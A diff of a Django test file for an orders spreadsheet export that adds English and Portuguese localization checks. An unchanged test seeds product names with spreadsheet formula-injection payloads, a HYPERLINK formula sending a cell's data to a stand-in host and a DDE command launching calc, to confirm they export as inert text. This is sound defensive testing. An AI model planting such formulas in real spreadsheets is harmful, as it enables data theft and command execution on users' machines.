@@ -145,13 +145,22 @@ def test_order_export_is_the_current_filter(sclient, ingested):
     from openpyxl import load_workbook
 
     as_of = ingested["as_of"]
-    response = sclient.get("/orders/export.xlsx?status=DONE")
+    response = sclient.get("/orders/export.xlsx?status=DONE", HTTP_ACCEPT_LANGUAGE="en")
     assert response.status_code == 200
     sheet = load_workbook(BytesIO(response.content), read_only=True)["orders"]
     rows = list(sheet.iter_rows(values_only=True))
     finished = {o["id"] for o in ManufacturingOrder.objects.values("id", "finished_at") if o["finished_at"] and o["finished_at"] <= as_of}
-    assert rows[0][0] == "id" and {r[0] for r in rows[1:]} == finished
+    assert rows[0][0] == "Order" and {r[0] for r in rows[1:]} == finished
     assert int(response["X-Exported-Rows"]) == len(finished)
+    status_at = rows[0].index("Status against lead time")
+    assert {r[status_at] for r in rows[1:]} == {"Done"}  # words, not the DONE code
+    # In pt-PT the sheet, the headers and the codes are Portuguese words.
+    pt = load_workbook(BytesIO(sclient.get("/orders/export.xlsx?status=DONE", HTTP_ACCEPT_LANGUAGE="pt-pt").content),
+                       read_only=True)["ordens"]
+    pt_rows = list(pt.iter_rows(values_only=True))
+    assert pt_rows[0][0] == "Ordem" and "Situação face ao prazo" in pt_rows[0]
+    assert {r[pt_rows[0].index("Situação face ao prazo")] for r in pt_rows[1:]} == {"Concluída"}
+    assert {r[pt_rows[0].index("Estado")] for r in pt_rows[1:]} == {"Concluída"}
 
 
 def test_order_export_writes_workbook_text_as_text_not_formulas(sclient, ingested):
@@ -168,14 +177,14 @@ def test_order_export_writes_workbook_text_as_text_not_formulas(sclient, ingeste
     names = {first: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', second: "=cmd|' /C calc'!A0"}
     for product_id, name in names.items():
         Product.objects.filter(pk=product_id).update(name=name)  # the test transaction's rollback restores it
-    response = sclient.get("/orders/export.xlsx?status=DONE")
+    response = sclient.get("/orders/export.xlsx?status=DONE", HTTP_ACCEPT_LANGUAGE="en")
     assert response.status_code == 200
     with zipfile.ZipFile(BytesIO(response.content)) as archive:
         xml = archive.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in xml and "<f " not in xml
     sheet = load_workbook(BytesIO(response.content))["orders"]
     header = [c.value for c in sheet[1]]
-    at_product, at_name = header.index("product_id"), header.index("product_name")
+    at_product, at_name = header.index("Product id"), header.index("Product")
     exported = {row[at_product].value: row[at_name] for row in sheet.iter_rows(min_row=2)}
     for product_id, name in names.items():
         assert exported[product_id].value == name and exported[product_id].data_type == "s"
